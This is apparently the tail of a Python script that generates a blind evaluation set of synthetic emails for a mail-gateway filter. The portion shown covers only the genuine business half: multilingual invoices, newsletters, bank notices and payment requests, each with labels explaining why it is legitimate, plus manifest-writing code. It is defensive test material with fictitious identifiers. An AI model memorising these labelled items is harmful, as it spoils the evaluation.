Przetwórnia Owoców Sadownik S.A., Grójec""", seed=f))

f = "25-pl-pipc-newsletter"
_h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head><body style="font-family:Arial,sans-serif;font-size:14px">
<table width="620" align="center"><tr><td style="background:#0a5a8c;color:#fff;padding:12px;font-size:18px">Biuletyn PIPC &middot; listopad 2026</td></tr>
<tr><td style="padding:12px 2px"><h3>KSeF w branży chemicznej - pierwsze miesiące doświadczeń</h3>
<p>Podsumowanie ankiety wśród członków Izby: najczęstsze problemy z fakturami korygującymi i załącznikami.</p>
<h3>Transport materiałów niebezpiecznych - szkolenie ADR 2027</h3>
<p>Zapraszamy na szkolenie dla doradców ds. bezpieczeństwa, Warszawa, 9 grudnia 2026 r.</p>
<p><a href="https://www.pipc.org.pl/aktualnosci">Więcej informacji na stronie Izby</a></p></td></tr>
<tr><td style="font-size:11px;color:#777">Otrzymujesz ten biuletyn, ponieważ zapisałeś się na liście PIPC. <a href="https://pipc.us21.list-manage.com/unsubscribe">Wypisz się</a></td></tr></table></body></html>"""
M(infra=mailchimp(f, "pipc.org.pl", n=96),
  file=f, half="business", lang="pl", cs="ISO-8859-2 / QP, multipart/alternative (newsletter)",
  desc="Polish chemical industry chamber newsletter the office manager subscribed to",
  why="Genuine subscribed newsletter via Mailchimp with List-Unsubscribe, links to the chamber's site only",
  frm=("Polska Izba Przemysłu Chemicznego", "biuletyn@pipc.org.pl"), to=[S["katarzyna"]],
  subject="Biuletyn PIPC - listopad 2026: KSeF w branży, szkolenie ADR 2027", date=dt("2026-11-27 09:00:00"), hcs="iso-8859-2",
  body=alt("""Biuletyn PIPC - listopad 2026

KSeF w branży chemicznej - pierwsze miesiące doświadczeń
Podsumowanie ankiety wśród członków Izby: najczęstsze problemy z fakturami korygującymi i załącznikami.

Transport materiałów niebezpiecznych - szkolenie ADR 2027
Zapraszamy na szkolenie dla doradców ds. bezpieczeństwa, Warszawa, 9 grudnia 2026 r.

Więcej: https://www.pipc.org.pl/aktualnosci""", "iso-8859-2", "quoted-printable", html=_h, seed=f))

f = "26-pl-pko-genuine-new-device-login"
M(infra=dict(helo="smtp-out2.pkobp.pl", rdns="smtp-out2.pkobp.pl", ip="195.94.204.37", inner=[],
             msgid="<%s@pkobp.pl>" % h(f, 28), return_path="powiadomienia@pkobp.pl"),
  file=f, half="business", lang="pl", cs="UTF-8 / QP",
  desc="Genuine PKO BP security notification: new device added to iPKO biznes; no links, call the bank if it wasn't you",
  why="Genuine security notification: bank's own domain/server, user-triggered event (office manager set up a new phone), no links or QR, refers to the number on the bank's website (contrast attack 27)",
  frm=("PKO Bank Polski", "powiadomienia@pkobp.pl"), to=[S["katarzyna"]],
  subject="iPKO biznes: dodano nowe urządzenie", date=dt("2026-11-03 16:48:22"),
  body=text("""Dzień dobry,

informujemy, że 03.11.2026 o godz. 16:47 do Twojego dostępu w iPKO biznes
dodano nowe urządzenie mobilne: iPhone 16 (aplikacja iPKO biznes).

Jeśli to Ty - nie musisz nic robić.

Jeśli nie rozpoznajesz tej operacji, zadzwoń do nas na numer podany na
stronie pkobp.pl w zakładce Kontakt. Nie podawaj nikomu danych do logowania
ani kodów autoryzacyjnych. Bank nigdy nie wysyła linków do logowania
w wiadomościach e-mail.

Pozdrawiamy
PKO Bank Polski

Wiadomość została wygenerowana automatycznie.""", "plain", "utf-8", "quoted-printable"))

# =================================================================== BUSINESS: Spanish
f = "27-es-customer-urgent-order-sds"
M(infra=gmail(f, 71),
  file=f, half="business", lang="es", cs="UTF-8 / QP, multipart/alternative",
  desc="Paint manufacturer Pinturas Levante (Google Workspace) places an urgent order and asks for the Spanish SDS",
  why="Genuine customer order from its own domain, references previous orders and price agreement, requests documents (SDS in Spanish) rather than sending links",
  frm=("Carlos Navarro", "cnavarro@pinturaslevante.es"), to=[S["javier"]],
  subject="Pedido urgente - resina alquídica y secantes (ref. PL-26-1187)", date=dt("2026-11-11 08:52:30"),
  body=alt("""Hola Javier:

Te confirmo el pedido que hablamos ayer por teléfono, con los precios de la oferta OF-ES-26-0412:

- Resina alquídica larga en aceite 70 %% en white spirit: 6 IBC (6.000 kg)
- Secante de cobalto-free (manganeso) 10 %%: 400 kg en bidones de 25 kg
- Antipiel (butanona oxima): 200 kg

Nuestro pedido interno es PL-26-1187. Lo necesitamos en Paterna como muy tarde el martes 17, porque la línea de esmaltes para el cliente de carpintería metálica está parada.

Por favor, mándame también las fichas de datos de seguridad en español, versión actualizada conforme al CLP, del secante nuevo, que no la tenemos en el sistema.

Gracias y un saludo,

Carlos Navarro
Jefe de Compras
Pinturas Levante S.L. - Pol. Ind. Fuente del Jarro, Paterna (Valencia)
Tel. 961 32 44 18""".replace("%%", "%"), seed=f))

f = "28-es-transportes-ebro-factura"
M(infra=cpanel(f, "cp46.webempresa.eu", "185.2.5.46", "transportesebro.es", "88.12.44.150", ua=None),
  file=f, half="business", lang="es", cs="ISO-8859-1 / QP + PDF",
  desc="Spanish ADR haulier Transportes Ebro sends its monthly invoice PDF (before the mailbox was compromised)",
  why="Genuine: real domain via its hosting provider from a Spanish business IP, PDF invoice, usual Ibercaja account %s" % ACC["ebro"],
  frm=("Administración Transportes Ebro", "administracion@transportesebro.es"), to=[S["lucia"]],
  subject="Factura 2026/A/1102 - servicios cisterna ADR octubre", date=dt("2026-11-05 12:20:45"), hcs="iso-8859-1",
  headers=[("X-Mailer", "a3ERP Facturacion 2026")],
  body=mixed([text("""Buenos días,

adjuntamos la factura 2026/A/1102 correspondiente a los servicios de
cisterna ADR del mes de octubre (9 servicios Tarragona - Zaragoza /
Tarragona - Castellón).

Importe total: 18.942,36 EUR (IVA incluido)
Vencimiento: 60 días fecha factura
Forma de pago: transferencia a Ibercaja, IBAN %s

Un saludo,

Administración
Transportes Ebro S.L.
Ctra. de Castellón km 4,5 - 50013 Zaragoza
Tel. 976 41 28 30""" % fmt_iban(ACC["ebro"]), "plain", "iso-8859-1", "quoted-printable"),
      attach("Factura_2026-A-1102.pdf", pdf_placeholder("Transportes Ebro - Factura 2026/A/1102", ["18.942,36 EUR"]), "application/pdf")], f))

f = "29-es-dehu-genuine-notification-notice"
M(infra=dict(helo="smtp.correo.gob.es", rdns="smtp.correo.gob.es", ip="185.73.172.39", inner=[],
             msgid="<%s@correo.gob.es>" % h(f, 30), return_path="no-reply@correo.gob.es"),
  file=f, half="business", lang="es", cs="UTF-8 / QP",
  desc="Genuine DEHú notice: a notification from the tax agency is available; access via the official portal with a digital certificate",
  why="Genuine but hard (contrast attack 28): government mail infrastructure, no direct document link, points to the official DEHú portal and requires certificate/Cl@ve login there",
  frm=("DEHú - Dirección Electrónica Habilitada única", "no-reply@correo.gob.es"), to=[S["lucia"]],
  subject="Aviso de puesta a disposición de notificación", date=dt("2026-11-24 07:31:09"),
  body=text("""Se le informa que tiene a su disposición una notificación en la Dirección
Electrónica Habilitada única (DEHú).

Titular: EXAMPLE GROUP IBERIA S.L. (B55123456)
Organismo emisor: Agencia Estatal de Administración Tributaria
Fecha de puesta a disposición: 24/11/2026

Para acceder a la notificación, entre en https://dehu.redsara.es e
identifíquese con su certificado electrónico o Cl@ve.

Este aviso se envía únicamente a efectos informativos y su falta de
recepción no impide que la notificación sea considerada plenamente válida.

Por favor, no responda a este correo electrónico.""", "plain", "utf-8", "quoted-printable"))

f = "30-es-colleague-private-gmail-damage-report"
M(infra=gmail(f, 33),
  file=f, half="business", lang="es", cs="UTF-8 / base64 + PDF",
  desc="Sales manager Javier Martínez writes from his private Gmail (laptop broken) with a damage report of drums unloaded at a customer",
  why="Genuine colleague on a private address: expected content (damage claim with the known haulier), attachment is a PDF report, no payment or login request, offers to call",
  frm=("Javier Martínez", "javimartinez.tgn@gmail.com"), to=[S["lucia"]],
  subject="Bidones dañados en Pinturas Levante - informe", date=dt("2026-11-18 18:05:27"),
  body=mixed([text("""Hola Lucía,

te escribo desde mi Gmail porque se me ha roto el portátil (mañana lo llevo
a IT). Esta tarde he estado en Pinturas Levante: en la descarga del pedido
PL-26-1187 llegaron 3 bidones de secante abollados y uno con pérdida. Te
adjunto el informe con las fotos y el CMR firmado con la reserva.

¿Puedes abrir la incidencia con Transportes Ebro y avisar al seguro? Carlos
Navarro pide reposición de los 4 bidones antes del viernes.

Mañana te llamo desde la oficina.

Un abrazo,
Javier""", "plain", "utf-8", "base64"),
      attach("Informe_danos_PL-26-1187.pdf", pdf_placeholder("Informe de daños PL-26-1187", ["3 bidones abollados, 1 con pérdida", "CMR con reserva"]), "application/pdf")], f))

f = "31-es-feique-newsletter"
_h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="font-family:Arial,sans-serif;font-size:14px">
<table width="620" align="center"><tr><td style="background:#00843d;color:#fff;padding:12px;font-size:18px">FEIQUE Informa &middot; noviembre 2026</td></tr>
<tr><td><h3>La industria química española cierra el tercer trimestre con estabilidad en el empleo</h3>
<p>Avance del informe de coyuntura del sector con datos de producción, exportaciones y empleo.</p>
<h3>Jornada técnica: reglamento CLP y fichas de datos de seguridad</h3>
<p>Madrid, 15 de diciembre de 2026. Inscripción abierta para empresas asociadas.</p>
<p><a href="https://www.feique.org/actualidad">Leer más en feique.org</a></p></td></tr>
<tr><td style="font-size:11px;color:#777">Recibe este boletín porque está suscrito con javier.martinez@example.com. <a href="https://feique.us21.list-manage.com/unsubscribe">Darse de baja</a></td></tr></table></body></html>"""
M(infra=mailchimp(f, "feique.org", n=133),
  file=f, half="business", lang="es", cs="ISO-8859-1 / QP, HTML-only (newsletter)",
  desc="Spanish chemical industry federation newsletter the sales manager subscribed to",
  why="Genuine subscribed newsletter via Mailchimp, List-Unsubscribe, links to the federation's own site",
  frm=("FEIQUE", "comunicacion@feique.org"), to=[S["javier"]],
  subject="FEIQUE Informa - noviembre 2026", date=dt("2026-11-26 10:00:00"), hcs="iso-8859-1",
  body=text(_h, "html", "iso-8859-1", "quoted-printable"))

# =================================================================== BUSINESS: Greek
f = "32-el-customer-order-complaint-food"
M(infra=dict(helo="mail.dimitriou-foods.gr", rdns="mail.dimitriou-foods.gr", ip="212.205.91.34",
             inner=["from PC-PROM03 ([192.168.1.57])\n\tby mail.dimitriou-foods.gr (Postfix) with ESMTPSA id %s\n\tfor <{RCPT}>; {DATE}" % h(f, 10, "0123456789ABCDEF")],
             msgid="<000001dc%s$%s$%s@dimitriou-foods.gr>" % (h(f, 8), h(f + "b", 8), h(f + "c", 8)),
             headers=[("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", base64.b64encode(hashlib.md5(f.encode()).digest()).decode()), ("Content-Language", "el")]),
  file=f, half="business", lang="el", cs="ISO-8859-7 / QP",
  desc="Greek food processor places a repeat order and complains about wet pallets and a missing food-grade certificate",
  why="Genuine customer mail from its own mail server (Greek business IP, Outlook), concrete order/lot data, no links, no payment content",
  frm=("Μαρία Κωνσταντίνου", "m.konstantinou@dimitriou-foods.gr"), to=[S["nikos"]],
  subject="Παραγγελία Δεκεμβρίου και παρατήρηση για την παρτίδα CA-2610-188", date=dt("2026-11-16 12:40:19", "EET"), hcs="iso-8859-7",
  body=text("""Καλημέρα κ. Παπαδόπουλε,

σας στέλνω την παραγγελία Δεκεμβρίου:
- Κιτρικό οξύ άνυδρο E330: 8 τόνοι (σάκοι 25 kg)
- Σορβικό κάλιο E202: 600 kg
Παράδοση στο εργοστάσιο στη Μάνδρα έως 4/12.

Επίσης μια παρατήρηση για την προηγούμενη παράδοση (παρτίδα CA-2610-188):
δύο παλέτες ήρθαν βρεγμένες και λείπει το πιστοποιητικό καταλληλότητας για
τρόφιμα (food grade) και το πιστοποιητικό ανάλυσης. Ο ποιοτικός έλεγχος δεν
μπορεί να απελευθερώσει την παρτίδα χωρίς αυτά. Μπορείτε να μου τα στείλετε
σήμερα;

Ευχαριστώ,
Μαρία Κωνσταντίνου
Υπεύθυνη Προμηθειών
Αφοί Δημητρίου Τρόφιμα Α.Ε., Μάνδρα Αττικής""", "plain", "iso-8859-7", "quoted-printable"))

f = "33-el-aegean-tank-invoice"
M(infra=cpanel(f, "linux41.papaki.gr", "185.4.133.41", "aegeantank.gr", "94.66.58.12", ua=None),
  file=f, half="business", lang="el", cs="windows-1253 / base64 + PDF",
  desc="Greek tank haulier Aegean Tank Lines sends its October invoice (PDF) with myDATA MARK",
  why="Genuine: real domain via its hosting from a Greek business IP, PDF invoice with MARK number, usual Piraeus Bank account %s" % ACC["aegean"],
  frm=("Λογιστήριο Aegean Tank Lines", "logistirio@aegeantank.gr"), to=[S["eleni"]],
  subject="Τιμολόγιο Παροχής Υπηρεσιών ΤΠΥ 0004398", date=dt("2026-11-11 10:15:33", "EET"), hcs="windows-1253", henc="B",
  headers=[("X-Mailer", "Microsoft Outlook 16.0")],
  body=mixed([text("""Καλημέρα σας,

σας αποστέλλουμε συνημμένα το τιμολόγιο παροχής υπηρεσιών ΤΠΥ 0004398 για
τις μεταφορές Οκτωβρίου (7 δρομολόγια ADR Ασπρόπυργος - Θεσσαλονίκη).

ΜΑΡΚ myDATA: 400001948271153
Ποσό: 14.880,00 € (συμπ. ΦΠΑ)
Τράπεζα Πειραιώς, IBAN %s

Με εκτίμηση,
Λογιστήριο
Aegean Tank Lines Α.Ε.
Λ. Ειρήνης 18, 19300 Ασπρόπυργος
Τηλ. 210 557 3410""" % fmt_iban(ACC["aegean"]), "plain", "windows-1253", "base64"),
      attach("TPY_0004398.pdf", pdf_placeholder("Aegean Tank Lines - TPY 0004398", ["14.880,00 EUR", "MARK 400001948271153"]), "application/pdf")], f))

f = "34-el-internal-urgent-broker-payment"
M(infra=exch_internal(f, "Πληρωμή εκτελωνιστή σήμερα - ISO tank Πειραιάς", "el-GR", client="10.20.31.14"),
  file=f, half="business", lang="el", cs="UTF-8 / QP, multipart/alternative",
  desc="Country manager Nikos asks Greek accounting internally to pay today the known customs broker's invoice so two ISO tanks can leave the port",
  why="Genuine urgent payment request: internal mail via mail-int01/Exchange, existing vendor already in the ERP, invoice attached in the system, no new account (contrast attack 34)",
  frm=("Papadopoulos, Nikos", "nikos.papadopoulos@example.com"), to=[("Georgiou, Eleni", "eleni.georgiou@example.com")],
  subject="Πληρωμή εκτελωνιστή σήμερα - ISO tank Πειραιάς", date=dt("2026-11-06 11:48:02", "EET"),
  body=alt("""Ελένη καλημέρα,

μπορείς να πληρώσεις σήμερα το τιμολόγιο 26/1121 του Καραγιάννη (εκτελωνισμός των δύο ISO tank MEK, 7.860,40 €); Είναι ήδη καταχωρημένο στο ERP από χθες, με τα γνωστά στοιχεία του λογαριασμού τους.

Αν δεν πληρωθεί μέχρι τις 14:00 δεν βγαίνουν τα tank από το λιμάνι πριν το Σαββατοκύριακο.

Ευχαριστώ,
Νίκος""", seed=f))

f = "35-el-naftemporiki-newsletter"
_t = """Ναυτεμπορική - Πρωινό Newsletter, 24 Νοεμβρίου 2026

Αγορές: Ήπιες κινήσεις στο Χρηματιστήριο Αθηνών
Λιμάνια: Αύξηση της διακίνησης εμπορευματοκιβωτίων στον Πειραιά
Ενέργεια: Νέα δεδομένα για το κόστος ενέργειας στη βιομηχανία

Διαβάστε περισσότερα: https://www.naftemporiki.gr
Διαγραφή από τη λίστα: https://www.naftemporiki.gr/newsletter/unsubscribe"""
M(infra=sendgrid(f, "naftemporiki.gr", n=140),
  file=f, half="business", lang="el", cs="windows-1253 / QP, multipart/alternative (newsletter)",
  desc="Greek business daily newsletter the country manager subscribed to",
  why="Genuine subscribed newsletter via the publisher's ESP, links to its own site, unsubscribe link present",
  frm=("Ναυτεμπορική", "newsletter@naftemporiki.gr"), to=[S["nikos"]],
  subject="Πρωινό Newsletter - 24 Νοεμβρίου 2026", date=dt("2026-11-24 07:00:00", "EET"), hcs="windows-1253",
  headers=[("List-Unsubscribe", "<https://www.naftemporiki.gr/newsletter/unsubscribe>"), ("Precedence", "bulk")],
  body=alt(_t, "windows-1253", "quoted-printable", seed=f))

f = "36-el-customs-broker-genuine-bank-change"
M(infra=dict(helo="mail.karagiannis-customs.gr", rdns="mail.karagiannis-customs.gr", ip="46.103.88.19", inner=[],
             msgid="<%s@karagiannis-customs.gr>" % h(f, 24), headers=[("X-Mailer", "Microsoft Outlook 16.0")]),
  file=f, half="business", lang="el", cs="ISO-8859-7 / base64 + PDF",
  desc="Known customs broker Karagiannis announces a new Alpha Bank account from 1 Jan 2027, letter attached, invites verification by phone",
  why="Genuine but hard: broker's own domain/server, change effective next year, signed letter, explicit advice to confirm via the known phone number; new IBAN %s" % ACC["karag_new"],
  frm=("Γιώργος Καραγιάννης", "g.karagiannis@karagiannis-customs.gr"), to=[S["eleni"]], cc=[S["nikos"]],
  subject="Αλλαγή τραπεζικού λογαριασμού από 01/01/2027", date=dt("2026-11-30 13:05:41", "EET"), hcs="iso-8859-7",
  body=mixed([text("""Αγαπητή κα Γεωργίου,

σας ενημερώνουμε ότι από 01/01/2027 οι πληρωμές προς το γραφείο μας θα
γίνονται στον νέο λογαριασμό μας στην Alpha Bank:

IBAN: %s

Τα τιμολόγια του 2026 εξοφλούνται κανονικά στον υπάρχοντα λογαριασμό.
Επισυνάπτουμε την υπογεγραμμένη επιστολή. Για λόγους ασφαλείας παρακαλούμε
επιβεβαιώστε τη μεταβολή τηλεφωνικά στο γνωστό σας τηλέφωνο του γραφείου
μας πριν την καταχωρήσετε.

Με εκτίμηση,
Γιώργος Καραγιάννης
Τελωνειακός Αντιπρόσωπος
Καραγιάννης Τελωνειακές Υπηρεσίες, Ακτή Μιαούλη 53, Πειραιάς""" % fmt_iban(ACC["karag_new"]), "plain", "iso-8859-7", "base64"),
      attach("Epistoli_allagi_logariasmou.pdf", pdf_placeholder("Karagiannis Customs - new bank account from 01/01/2027", ["Alpha Bank IBAN " + fmt_iban(ACC["karag_new"])]), "application/pdf")], f))

# =================================================================== BUSINESS: Russian
f = "37-ru-customer-complaint-quality-docs"
M(infra=yandex(f, 81),
  file=f, half="business", lang="ru", cs="KOI8-R / QP",
  desc="Russian coatings customer complains about missing quality passport and EAEU declaration for a resin delivery",
  why="Genuine customer complaint from its own domain (Yandex 360), specific contract/delivery data, requests documents, no links or payment changes",
  frm=("Сергей Иванов", "s.ivanov@lkprom.ru"), to=[S["dmitry"]],
  subject="Претензия по поставке от 10.11 - нет паспорта качества", date=dt("2026-11-12 10:04:51", "MSK"), hcs="koi8-r", henc="B",
  body=text("""Дмитрий Сергеевич, добрый день.

По поставке от 10.11.2026 (договор 27/2025, УПД 1261, эпоксидная смола
ЭД-20 аналог, 16 бочек) отсутствуют паспорт качества на партию и копия
декларации о соответствии ЕАЭС. Кроме того, на двух бочках повреждена
маркировка.

Без паспорта качества ОТК не допускает сырье в производство. Прошу
направить документы до конца недели, иначе будем вынуждены оформить
возврат.

С уважением,
Сергей Иванов
Начальник отдела снабжения
ООО "ЛакКрасПром", г. Ярославль
+7 4852 58-21-40""", "plain", "koi8-r", "quoted-printable"))

f = "38-ru-diadoc-genuine-notification"
M(infra=dict(helo="mail-out3.kontur.ru", rdns="mail-out3.kontur.ru", ip="46.17.203.15", inner=[],
             msgid="<%s@diadoc.ru>" % h(f, 32), return_path="bounce@diadoc.ru",
             headers=[("List-Unsubscribe", "<https://diadoc.kontur.ru/settings/notifications>")]),
  file=f, half="business", lang="ru", cs="UTF-8 / base64, multipart/alternative",
  desc="Genuine Kontur.Diadok notification about an incoming UPD from the known haulier",
  why="Genuine but hard (contrast attack 38): sent from Kontur infrastructure, link only to diadoc.kontur.ru, expected document from the regular haulier",
  frm=("Контур.Диадок", "noreply@diadoc.ru"), to=[S["olga"]],
  subject="Новый документ от ООО \"ТрансХимЛогистик\": УПД № 1281 от 18.11.2026", date=dt("2026-11-18 15:41:10", "MSK"), henc="B",
  body=alt("""Здравствуйте, Ольга Николаевна!

В ящик ООО "ЭКЗАМПЛ ГРУП РУС" поступил документ:

Отправитель: ООО "ТрансХимЛогистик"
Документ: УПД № 1281 от 18.11.2026
Сумма: 312 600,00 руб., в т.ч. НДС

Чтобы посмотреть и подписать документ, войдите в Диадок: https://diadoc.kontur.ru

Настроить уведомления: https://diadoc.kontur.ru/settings/notifications

Контур.Диадок""", "utf-8", "base64", seed=f))

f = "39-ru-internal-urgent-customs-payment"
M(infra=exch_internal(f, "Оплата таможенному брокеру сегодня", "ru-RU", client="10.20.51.17"),
  file=f, half="business", lang="ru", cs="windows-1251 / base64, multipart/alternative",
  desc="General director asks the chief accountant internally to pay the regular customs broker's invoice today",
  why="Genuine urgent payment: internal mail via mail-int01, known broker with existing contract, invoice already in 1C, no new details (contrast attack 39)",
  frm=("Волков Дмитрий", "dmitry.volkov@example.com"), to=[("Смирнова Ольга", "olga.smirnova@example.com")],
  subject="Оплата таможенному брокеру сегодня", date=dt("2026-11-20 10:12:33", "MSK"), hcs="windows-1251", henc="B",
  body=alt("""Ольга Николаевна, доброе утро.

Прошу сегодня оплатить счет ООО "Брокер-Сервис" № 884 от 19.11.2026 (таможенные платежи и услуги по ДТ на две цистерны, 642 318,50 руб.). Счет уже загружен в 1С, реквизиты те же, что по договору.

Если не оплатим до 14:00, груз не выпустят до понедельника.

Спасибо.
Д. Волков""", "windows-1251", "base64", seed=f))

f = "40-ru-haulier-invoice-koi8"
M(infra=yandex(f, 84),
  file=f, half="business", lang="ru", cs="KOI8-R / base64 + PDF",
  desc="Russian haulier TransKhimLogistik sends its invoice (schet) with the usual bank details",
  why="Genuine invoice from the haulier's domain via Yandex 360, usual Sberbank account %s (valid control key for BIK %s), PDF attached" % (RU_ACC_THL, RU_BIK_SBER),
  frm=("Бухгалтерия ТрансХимЛогистик", "buh@thl-cargo.ru"), to=[S["olga"]],
  subject="Счет на оплату N 1290 от 23.11.2026", date=dt("2026-11-23 12:55:40", "MSK"), hcs="koi8-r", henc="B",
  body=mixed([text("""Добрый день!

Направляем счет на оплату N 1290 от 23.11.2026 за перевозку опасных грузов
автоцистернами (ноябрь 2026) по договору 14-ТХЛ/2024.

Сумма: 298 440,00 руб., в т.ч. НДС
Реквизиты для оплаты:
ПАО Сбербанк, БИК %s
р/с %s
к/с 30101810400000000225

УПД будет направлен через Диадок.

С уважением,
бухгалтерия ООО "ТрансХимЛогистик"
+7 495 645-18-27""" % (RU_BIK_SBER, RU_ACC_THL), "plain", "koi8-r", "base64"),
      attach("Schet_1290_23.11.2026.pdf", pdf_placeholder("TransKhimLogistik - invoice 1290", ["298 440,00 RUB"]), "application/pdf")], f))

# =================================================================== output
def main():
    for d in ("attack", "business"):
        os.makedirs(os.path.join(ROOT, d), exist_ok=True)
        for fn in os.listdir(os.path.join(ROOT, d)):
            if fn.endswith(".eml"):
                os.remove(os.path.join(ROOT, d, fn))
    seen = set()
    for m in MESSAGES:
        assert m["file"] not in seen
        seen.add(m["file"])
        d0 = datetime.datetime(2026, 11, 1, tzinfo=datetime.timezone.utc)
        d1 = datetime.datetime(2026, 12, 6, tzinfo=datetime.timezone.utc)
        assert d0 <= m["date"] < d1, m["file"]
        with open(os.path.join(ROOT, m["half"], m["file"] + ".eml"), "wb") as fh:
            fh.write(build(m))
    write_manifest()
    with open(os.path.join(ROOT, "staff.txt"), "w", encoding="utf-8") as fh:
        for n, a, _, _ in STAFF:
            fh.write("%s=%s\n" % (n, a))

def write_manifest():
    L = []
    L.append("# Example Group - mail-gateway blind evaluation set\n")
    L.append("Generated by `gen/build.py` (Python 3 stdlib, deterministic). 80 raw RFC 5322 messages as received on the inbound MX `mx01.example.com`, dated 1 Nov - 5 Dec 2026. "
             "`attack/` (40) must not be delivered plainly; `business/` (40) must be delivered. All attachments are inert placeholders; attacker domains, phone numbers and accounts are fictitious test data.\n")
    L.append("## Company\n")
    L.append("**Example Group** - distributor of bulk and packaged chemicals, polymers and additives (ADR tank-truck logistics, SDS and REACH/CLP registrations, dangerous-goods customs, warehouses, QC laboratory; customers in coatings, cosmetics and food processing). About 700 mailboxes on `example.com` and `examplegroup.eu`.\n")
    L.append("- HQ: Example Group GmbH, Rheinvorlandstraße 7, 68159 Mannheim (HRB 712345, AG Mannheim)")
    L.append("- Italy: Example Group Italia S.r.l., Milano (P.IVA %s, PEC exampleitalia@pec.it)" % PIVA_EG)
    L.append("- Poland: Example Group Polska sp. z o.o., Poznań (NIP %s)" % NIP_EG)
    L.append("- Spain: Example Group Iberia S.L., Tarragona (CIF B55123456)")
    L.append("- Greece: Example Group Hellas Μονοπρόσωπη Α.Ε., Piraeus (ΑΦΜ %s)" % AFM_EG)
    L.append("- UK: Example Group UK Limited, Warrington (company number 09876543)")
    L.append("- Russia: ООО \"Экзампл Груп Рус\", Moscow (ИНН %s)" % INN_EG)
    L.append("- Mail flow: internet -> `mx01.example.com`; internal mail from Exchange (`EXCH01.corp.example.com`) via relay `mail-int01.example.com [10.20.0.25]`.\n")
    L.append("## Staff\n")
    L.append("| Name | Address | Office | Role |\n|---|---|---|---|")
    for n, a, o, r in STAFF:
        L.append("| %s | %s | %s | %s |" % (n, a, o, r))
    L.append("\n## Correspondents\n")
    L.append("""| Organisation | Addresses | Role |
|---|---|---|
| Lieferant GmbH, Frankfurt | Stefan Maier <s.maier@lieferant-gmbh.de>, Buchhaltung <rechnungen@lieferant-gmbh.de> | Producer/supplier (polymers, waxes); Commerzbank, from 2027 Deutsche Bank |
| Ferretti Trasporti S.p.A., Novara | Chiara Colombo <c.colombo@ferretti-trasporti.it>, <amministrazione@ferretti-trasporti.it> | ADR tank haulier Italy; Intesa Sanpaolo, from 2027 Banco BPM |
| Partner Logistik sp. z o.o., Poznań | Tadeusz Zieliński <t.zielinski@partner-logistik.pl>, <ksiegowosc@partner-logistik.pl> | ADR haulier/warehouse Poland; ING Bank Śląski |
| Brenner Lacke GmbH & Co. KG, Stuttgart | u.sommer@brenner-lacke.de, i.lorenz@brenner-lacke.de | Coatings customer (mailbox of U. Sommer later compromised) |
| Ashworth Skincare Ltd, Rochdale | rachel.hughes@ashworthskincare.co.uk | UK cosmetics customer |
| Northway Tankers Ltd, Widnes | accounts@ / m.reid@northwaytankers.co.uk | UK ADR haulier (m.reid later compromised) |
| Pennine Customs Services Ltd | sophie.grant@penninecustoms.co.uk | UK customs broker |
| VDB Polymers B.V., Geleen | p.devries@vdbpolymers.nl | Producer (PP copolymers) |
| Cosmetica Lombarda S.r.l. | e.ricci@cosmeticalombarda.it | Italian cosmetics customer |
| Przetwórnia Owoców Sadownik S.A. | m.lewandowska@sadownik.com.pl | Polish food-processing customer |
| Pinturas Levante S.L., Paterna | cnavarro@pinturaslevante.es | Spanish paint customer |
| Transportes Ebro S.L., Zaragoza | administracion@transportesebro.es | Spanish ADR haulier (mailbox later compromised) |
| Αφοί Δημητρίου Τρόφιμα Α.Ε. | m.konstantinou@dimitriou-foods.gr | Greek food-processing customer |
| Aegean Tank Lines Α.Ε. | logistirio@aegeantank.gr | Greek tank haulier (mailbox later compromised) |
| Καραγιάννης Τελωνειακές Υπηρεσίες | g.karagiannis@karagiannis-customs.gr | Greek customs broker |
| ООО "ЛакКрасПром", Yaroslavl | s.ivanov@lkprom.ru | Russian coatings customer |
| ООО "ТрансХимЛогистик" | buh@thl-cargo.ru | Russian dangerous-goods haulier |
| ECHA, Federchimica, PIPC, FEIQUE, Naftemporiki, Chemie-Logistik-Forum | newsletters / events | Subscribed by staff |
""")
    L.append("## Validity of embedded identifiers\n")
    L.append("- All IBANs carry valid ISO 13616 mod-97 check digits; Italian IBANs also a valid CIN, Spanish a valid DC pair, Polish a valid bank sort-code check digit; German BBANs use real bank codes (BLZ) with invented account numbers carrying a Luhn-type (method 00) check digit; the individual banks' own check-digit methods were not reproduced. UK sort-code modulus checks were not reproduced.")
    L.append("- Russian settlement accounts pass the control-key check against their BIK; company INN/NIP/ΑΦΜ/P.IVA have valid check digits.")
    L.append("- Bitcoin addresses: %s (bech32, valid checksum) and %s (Base58Check, valid checksum); derived from fixed seeds, no known key." % (BTC_EN, BTC_RU))
    L.append("- QR codes are real (byte mode, ECC M, encoder in build.py); contents listed below.\n")
    for half in ("attack", "business"):
        L.append("## %s/\n" % half)
        L.append("| File | Lang | Charset / encoding | What it is | Why %s |\n|---|---|---|---|---|" % ("it is an attack" if half == "attack" else "it is genuine"))
        for m in MESSAGES:
            if m["half"] != half:
                continue
            w = m["why"] + ("; QR content: `%s`" % m["qr"] if m.get("qr") else "")
            L.append("| %s.eml | %s | %s | %s | %s |" % (m["file"], m["lang"], m["cs"], m["desc"].replace("|", "/"), w.replace("|", "/")))
        L.append("")
    L.append("## Counts\n")
    for half in ("attack", "business"):
        c = {}
        for m in MESSAGES:
            if m["half"] == half:
                c[m["lang"]] = c.get(m["lang"], 0) + 1
        L.append("- %s: %d (%s)" % (half, sum(c.values()), ", ".join("%s %d" % (k, v) for k, v in sorted(c.items()))))
    with open(os.path.join(ROOT, "MANIFEST.md"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(L) + "\n")

if __name__ == "__main__":
    main()
